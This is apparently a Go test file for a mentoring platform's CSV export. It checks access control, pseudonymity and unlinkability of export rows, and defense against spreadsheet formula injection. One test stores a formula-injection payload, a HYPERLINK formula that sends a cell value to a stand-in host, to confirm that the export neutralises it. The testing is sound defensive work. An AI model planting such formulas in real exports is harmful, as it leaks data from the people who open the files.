package impact_test

import (
	"encoding/csv"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/duoforajob/duo/impact"
	. "github.com/duoforajob/duo/internal/testkit"
)

func TestExportRoute(t *testing.T) {
	RunAll(t, Matrix(t, "the evaluator's export", "GET", impact.ExportRoute, "", Expect{
		Anonymous: 401, DuoMentee: 403, DuoMentor: 403, OtherMentee: 403, Coord: 403, OtherCoord: 403, Superuser: 200}))
}

func exportOf(t *testing.T, h http.Handler) [][]string {
	t.Helper()
	res := Send(t, h, Superuser, "GET", impact.ExportRoute, "")
	rows, err := csv.NewReader(strings.NewReader(res.Body.String())).ReadAll()
	if res.Code != 200 || err != nil {
		t.Fatalf("%d %v", res.Code, err)
	}
	return rows
}

// One row per started duo with what the figures need and nothing that names or reaches a
// person; rows of two exports cannot be linked.
func TestExportIsPseudonymousAndUnlinkable(t *testing.T) {
	w := newWorld(t)
	born := Find(t, w.app, "duos", DuoOne).GetDateTime("started_on").Time().Year() - 23 // 23 when the duo started
	Change(t, w.app, "", "profiles", Profile(t, MenteeOne), map[string]any{"birth_year": born, "barriers": []string{"language", "network"},
		"expectations": "Trouver un emploi", "nationality": "MA", "nationality_consent_on": Day(-10)})
	h := Handler(t, w.app)
	first, second := exportOf(t, h), exportOf(t, h)
	var started int
	_ = w.app.DB().NewQuery("SELECT COUNT(*) FROM duos WHERE started_on != ''").Row(&started)
	if len(first) != started+1 {
		t.Fatalf("%d rows for %d started duos", len(first)-1, started)
	}
	body := ""
	ids := map[string]bool{}
	for _, row := range first[1:] {
		body += strings.Join(row, ",") + "\n"
		ids[row[0]] = true
	}
	for _, row := range second[1:] {
		if ids[row[0]] {
			t.Errorf("row %s is in both exports: they can be linked", row[0])
		}
	}
	for _, never := range []string{"Amina Mentee", "Marc Mentor", "@test.example.org", "Trouver un emploi", DuoOne, MenteeOne, "why"} {
		if strings.Contains(body, never) {
			t.Errorf("the export holds %q", never)
		}
	}
	for _, want := range []string{"22-25", "language;network", ",MA,"} {
		if !strings.Contains(body, want) {
			t.Errorf("the export lacks %q:\n%s", want, body)
		}
	}
}

// A branch named like a formula is text in the evaluator's spreadsheet, and the counts are
// still numbers.
func TestExportCellsNeverRunAsFormulas(t *testing.T) {
	app := App(t)
	formula := `=HYPERLINK("http://x.example/?"&A1,"Click")`
	Change(t, app, "", "branches", BranchBrussels, map[string]any{"name": formula})
	Change(t, app, "", "branches", BranchAntwerp, map[string]any{"name": "-2+3"})
	rows := exportOf(t, Handler(t, app))
	branches := map[string]int{}
	for _, row := range rows[1:] {
		branches[row[1]]++
		for _, n := range row[5:8] { // weeks, meetings, minutes
			if _, err := strconv.Atoi(n); err != nil {
				t.Errorf("a count is not a number: %q", n)
			}
		}
	}
	if branches["'"+formula] == 0 || branches["'-2+3"] == 0 || len(branches) != 2 {
		t.Errorf("branches as written: %v", branches)
	}
}
